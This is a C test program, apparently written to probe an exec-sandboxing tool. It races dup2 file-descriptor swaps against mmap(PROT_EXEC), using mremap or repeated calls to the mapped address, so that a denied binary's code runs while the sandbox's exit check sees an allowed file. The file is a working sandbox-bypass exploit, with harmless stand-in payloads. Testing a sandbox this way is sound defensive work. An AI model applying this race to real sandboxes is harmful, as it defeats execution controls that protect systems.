/*
 * attack_exec_mremap_race DIR ITERATIONS [call]: the fd-swap race on mmap(PROT_EXEC) (race_mmap_exec.c)
 * with the exit stop's check dodged. DIR/good and DIR/bad hold `mov eax, 1; ret` and
 * `mov eax, 42; ret`; exec sandboxing allows good, denies bad. The main thread maps fd SLOT at
 * a fixed address X with PROT_READ|PROT_EXEC while a flipper thread dup2s good and bad onto
 * SLOT; a mover thread, as soon as anything is mapped at X, moves it away (mremap to Y) and maps
 * good at X (PROT_READ: not stopped), so that at the call's exit stop X holds the judged file.
 * Each moved mapping is called: 42 is the denied file's code running. With `call`, the mover
 * is replaced by a caller thread that calls X over and over (a fault while X is not executable
 * is caught), to run the denied code before the exit stop looks at all. Prints "WON" (exit 0)
 * or "LOST moved=N tries=N" after ITERATIONS mmaps.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { SLOT = 100, LEN = 4096 };
static int good_fd, bad_fd;
static volatile int stop;
static char *const X = (char *)0x200000000000;
static char *const Y = (char *)0x300000000000;

static void *flipper(void *arg) {
  (void)arg;
  while (!stop) {
    dup2(good_fd, SLOT);
    dup2(bad_fd, SLOT);
  }
  return NULL;
}

static long moved;

static void *mover(void *arg) {
  (void)arg;
  while (!stop) {
    void *y = mremap(X, LEN, LEN, MREMAP_MAYMOVE | MREMAP_FIXED, Y);
    if (y == MAP_FAILED) continue;
    mmap(X, LEN, PROT_READ, MAP_PRIVATE | MAP_FIXED, good_fd, 0);
    moved++;
    /* Only an executable mapping moved from X can be called (a PROT_READ cover is not). */
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    int exec = 0;
    while (maps && fgets(line, sizeof line, maps)) {
      if (strtoul(line, NULL, 16) == (unsigned long)Y && strstr(line, " r-x")) exec = 1;
    }
    if (maps) fclose(maps);
    if (exec && ((int (*)(void))Y)() == 42) {
      printf("WON after moved=%ld\n", moved);
      fflush(stdout);
      _exit(0);
    }
    munmap(Y, LEN);
  }
  return NULL;
}

static __thread sigjmp_buf fault_env;

static void on_fault(int sig) {
  (void)sig;
  siglongjmp(fault_env, 1);
}

static void *caller(void *arg) {
  (void)arg;
  while (!stop) {
    if (sigsetjmp(fault_env, 1) != 0) continue;
    if (((int (*)(void))X)() == 42) {
      printf("WON by a call before the exit stop\n");
      fflush(stdout);
      _exit(0);
    }
  }
  return NULL;
}

int main(int argc, char **argv) {
  if (argc != 3 && argc != 4) return 2;
  int call_mode = argc == 4 && strcmp(argv[3], "call") == 0;
  char path[4096];
  snprintf(path, sizeof path, "%s/good", argv[1]);
  good_fd = open(path, O_RDONLY);
  snprintf(path, sizeof path, "%s/bad", argv[1]);
  bad_fd = open(path, O_RDONLY);
  if (good_fd < 0 || bad_fd < 0) return 3;
  if (call_mode) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_fault;
    sa.sa_flags = SA_NODEFER;
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
  }
  pthread_t a, b;
  pthread_create(&a, NULL, flipper, NULL);
  pthread_create(&b, NULL, call_mode ? caller : mover, NULL);
  long tries = atol(argv[2]);
  for (long i = 0; i < tries; i++) {
    mmap(X, LEN, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, SLOT, 0);
  }
  stop = 1;
  pthread_join(a, NULL);
  pthread_join(b, NULL);
  printf("LOST moved=%ld tries=%ld\n", moved, tries);
  return 1;
}
